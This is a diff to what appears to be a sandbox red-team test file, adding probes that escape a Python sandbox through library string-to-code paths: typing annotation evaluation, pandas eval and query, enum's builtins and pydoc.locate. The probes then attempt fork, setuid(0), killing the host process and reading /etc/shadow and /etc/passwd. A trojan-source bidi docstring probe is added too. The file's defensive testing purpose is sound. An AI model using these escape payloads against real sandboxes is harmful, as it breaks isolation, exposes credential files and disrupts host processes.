@@ -346,10 +346,110 @@ return {'reached': str(real_os), 'outcomes': {
     _p(name="runtime_builtins_patched", family="frame walks", allowed=HIDDEN,
        reaches="built-in function open", body="""
 runtime = type(mint).value.__globals__['sys'].modules['geomint.sandbox._runtime']
-table = runtime._BUILTINS
+table = runtime.BUILTINS
 table['open'] = builtins.open
 return {'reached': str(table['open']), 'outcomes': {
     t: _try(lambda: table['open'](t, 'w').close()) for t in ctx['targets']}}
+"""),
+
+    # -- text a library turns into code (Gate 1 never read it) --------------------------
+    _p(name="type_hints_class_annotation", family="string to code", recover=False,
+       allowed=HIDDEN, reaches="module 'os'", body="""
+import typing
+class Probe:
+    x: "__import__('os')"
+real_os = typing.get_type_hints(Probe)['x']  # vars(Probe) has no __builtins__: real ones
+return {'reached': str(real_os), 'outcomes': {
+    t: _try(lambda: real_os.close(real_os.open(t, 65, 438))) for t in ctx['targets']}}
+"""),
+    _p(name="type_hints_empty_globals", family="string to code", recover=False,
+       reaches="module 'os'", body="""
+import typing
+def probe(x: "__import__('os')"):
+    pass
+real_os = typing.get_type_hints(probe, {})['x']  # eval adds the real builtins to {}
+return {'reached': str(real_os), 'outcomes': {
+    'fork': _try(real_os.fork), 'kill_host': _try(lambda: real_os.kill(ctx['host_pid'], 9))}}
+"""),
+    _p(name="singledispatch_annotation_walk", family="string to code", recover=False,
+       reaches="module 'os'", body="""
+import functools
+@functools.singledispatch
+def dispatch(x):
+    return 0
+def probe(x: "(_ for _ in ()).throw(LookupError([c for c in ().__class__.__base__"
+             ".__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
+             "['sys'].modules['os']))"):
+    return 1
+try:
+    dispatch.register(probe)  # evaluates the annotation to find the type
+    real_os = None
+except LookupError as exc:
+    real_os = exc.args[0]
+return {'reached': str(real_os), 'outcomes': {
+    'fork': _try(real_os.fork), 'kill_worker': _try(lambda: real_os.kill(real_os.getppid(), 9))}}
+"""),
+    _p(name="pd_eval_globals_walk", family="string to code", recover=False,
+       reaches="module 'os'", body="""
+subclasses = pd.eval("t.__class__.__base__.__subclasses__()", local_dict={'t': ()},
+                     engine='python')
+wrap = [c for c in subclasses if c.__name__ == '_wrap_close'][0]
+init_globals = pd.eval("w.__init__.__globals__", local_dict={'w': wrap}, engine='python')
+real_os = init_globals['sys'].modules['os']
+return {'reached': str(real_os), 'outcomes': {
+    'setuid0': _try(lambda: real_os.setuid(0)),
+    'kill_host': _try(lambda: real_os.kill(ctx['host_pid'], 9))}}
+"""),
+    _p(name="df_query_local_walk", family="string to code", recover=False,
+       reaches="module 'os'", body="""
+df = pd.DataFrame({'a': [1, 2]})
+found = []
+t = ()
+try:
+    df.query("@found.append(@t.__class__.__base__.__subclasses__())", engine='python')
+except Exception:
+    pass  # the result is no mask; the append has happened
+wrap = [c for c in found[0] if c.__name__ == '_wrap_close'][0]
+real_os = df.eval("@wrap.__init__.__globals__", engine='python')['sys'].modules['os']
+return {'reached': str(real_os), 'outcomes': {
+    'read_shadow': _try(lambda: real_os.open('/etc/shadow', 0)),
+    'kill_worker': _try(lambda: real_os.kill(real_os.getppid(), 9))}}
+""", allowed=HIDDEN),
+    _p(name="private_import_eval_type", family="string to code", recover=False,
+       allowed=HIDDEN, reaches="module 'os'", body="""
+import typing
+from typing import _eval_type
+real_os = _eval_type(typing.ForwardRef("__import__('os')"), {}, {})
+return {'reached': str(real_os), 'outcomes': {
+    'listdir_etc': _try(lambda: real_os.listdir('/etc')),
+    'read_passwd': _try(lambda: real_os.open('/etc/passwd', 0))}}
+"""),
+    _p(name="enum_real_builtins", family="string to code", recover=False, allowed=HIDDEN,
+       reaches="built-in function open", body="""
+import enum
+real = enum.bltns  # `import builtins as bltns` in enum: the real builtins module
+return {'reached': str(real.open), 'outcomes': {
+    t: _try(lambda: real.open(t, 'w').close()) for t in ctx['targets']}}
+"""),
+    _p(name="pydoc_locate_os", family="string to code", recover=False, allowed=HIDDEN,
+       reaches="module 'os'", body="""
+import pandas.tseries.frequencies as frequencies
+pydoc = frequencies.lib.pa.compute.docscrape.pydoc  # pyarrow's vendored numpydoc
+real_os = pydoc.locate('os')  # imports by name
+return {'reached': str(real_os), 'outcomes': {
+    t: _try(lambda: real_os.mkdir(t)) for t in ctx['targets']}}
+"""),
+    _p(name="typing_types_function", family="string to code", recover=False, expect="value",
+       reaches="class 'function'", body="""
+import typing
+return {'reached': str(typing.types.FunctionType), 'outcomes': {}}
+"""),
+    _p(name="trojan_source_docstring", family="string to code", recover=False,
+       expect="value", reaches="early return", body="""
+def check(value):
+    \"\"\"Return whether value is allowed.\u2067 \"\"\"
+    return 'early return'
+return {'reached': check(1), 'outcomes': {}}
 """),
 
     # -- str.format traversal --------------------------------------------------------------
@@ -1115,8 +1215,8 @@ return [name for name, carrier in carriers if hasattr(carrier, 'planted_by_redte
     _p(name="plant_runtime_and_mint", family="inputs and state", expect="value",
        check="value_is_42", body="""
 runtime = sys.modules['geomint.sandbox._runtime']
-runtime._BUILTINS['len'] = lambda value: 42
-runtime._BUILTINS['sorted'] = lambda value: ['planted']
+runtime.BUILTINS['len'] = lambda value: 42
+runtime.BUILTINS['sorted'] = lambda value: ['planted']
 type(mint).value = lambda self, x, label, unit=None, sources=None: 'planted'
 sys.modules['math'] = sys.modules['json']
 return 42
